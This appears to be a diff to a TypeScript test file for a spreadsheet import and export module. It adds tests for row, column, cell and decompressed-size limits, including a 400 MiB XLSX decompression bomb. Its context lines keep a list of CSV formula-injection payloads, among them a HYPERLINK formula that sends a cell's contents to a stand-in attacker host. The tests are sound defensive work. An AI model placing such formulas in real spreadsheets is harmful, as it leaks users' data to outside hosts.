@@ -1,7 +1,9 @@
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
-import { neutraliseCell, readSheet, restoreCell, writeSheet } from './tabular.js';
+import { xlsxBomb } from '../../test/support/xlsx-bomb.js';
+import { AppError } from './errors.js';
+import { IMPORT_LIMITS, neutraliseCell, readSheet, restoreCell, writeSheet } from './tabular.js';
 
 const DANGEROUS = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
@@ -53,5 +55,75 @@ describe('CSV formula injection', () => {
       // XML reads a carriage return back as a line feed.
       expect(cell.value).toBe(value.replace(/\r/g, '\n'));
     });
+  });
+});
+
+describe('import limits', () => {
+  const small = { ...IMPORT_LIMITS, rows: 10, columns: 5, cells: 30 };
+  const header = ['building', 'number', 'floor', 'area_m2'];
+  const unitRows = (n: number) => Array.from({ length: n }, (_, i) => ['A座', `${i + 1}A`, i + 1, 50]);
+
+  async function refusal(read: Promise<unknown>): Promise<AppError> {
+    try {
+      await read;
+    } catch (err) {
+      if (err instanceof AppError) return err;
+      throw err;
+    }
+    throw new Error('not refused');
+  }
+
+  it.each(['csv', 'xlsx'] as const)('%s: as many rows as the limit are read; one more is refused naming the limit', async (format) => {
+    const numbers = (n: number) => Array.from({ length: n }, (_, i) => [`${i + 1}A`]);
+    expect((await readSheet(format, await writeSheet(format, 'units', ['number'], numbers(10)), {}, small)).rows).toHaveLength(10);
+    const err = await refusal(readSheet(format, await writeSheet(format, 'units', ['number'], numbers(11)), {}, small));
+    expect(err.code).toBe('import.too_large');
+    expect(err.status).toBe(413);
+    expect(err.details).toEqual({ field: 'contentBase64', limit: 'rows', max: 10 });
+  });
+
+  it.each(['csv', 'xlsx'] as const)('%s: too many columns or filled cells are refused naming the limit', async (format) => {
+    const wide = await writeSheet(format, 'units', [...header, 'a', 'b'], [['A座', '1A', 1, 50, 'x', 'y']]);
+    expect((await refusal(readSheet(format, wide, {}, small))).details.limit).toBe('columns');
+    const many = await writeSheet(format, 'units', header, unitRows(8));
+    expect((await refusal(readSheet(format, many, {}, small))).details.limit).toBe('cells');
+  });
+
+  it.each(['sharedStrings', 'sheet'] as const)(
+    'an XLSX whose %s unpack to 400 MiB is refused at the 32 MiB limit without being unpacked, memory staying bounded',
+    async (part) => {
+      const bomb = await xlsxBomb({ megabytes: 400, part });
+      expect(bomb.length).toBeLessThan(2 * 1024 * 1024);
+      const before = process.memoryUsage().rss;
+      let peak = before;
+      const sampler = setInterval(() => {
+        peak = Math.max(peak, process.memoryUsage().rss);
+      }, 5);
+      try {
+        const err = await refusal(readSheet('xlsx', bomb, {}));
+        expect(err.code).toBe('import.too_large');
+        expect(err.details).toEqual({ field: 'contentBase64', limit: 'uncompressedBytes', max: IMPORT_LIMITS.uncompressedBytes });
+        expect(err.message).toContain('32 MiB');
+      } finally {
+        clearInterval(sampler);
+      }
+      peak = Math.max(peak, process.memoryUsage().rss);
+      // At most the 32 MiB budget (and its inflater's working space) was ever unpacked.
+      expect(peak - before).toBeLessThan(150 * 1024 * 1024);
+    },
+  );
+
+  it('a CSV larger than the budget is refused before it is parsed', async () => {
+    const err = await refusal(readSheet('csv', Buffer.alloc(2_000, 'a'), {}, { ...IMPORT_LIMITS, uncompressedBytes: 1_000 }));
+    expect(err.details.limit).toBe('uncompressedBytes');
+  });
+
+  it('a file that is not a ZIP, or a truncated one, is unreadable, naming the field', async () => {
+    const real = await writeSheet('xlsx', 'units', header, unitRows(2));
+    for (const bad of [Buffer.from('not a zip'), real.subarray(0, real.length - 30), real.subarray(100)]) {
+      const err = await refusal(readSheet('xlsx', bad, {}));
+      expect(err.code).toBe('import.unreadable_file');
+      expect(err.details.field).toBe('contentBase64');
+    }
   });
 });
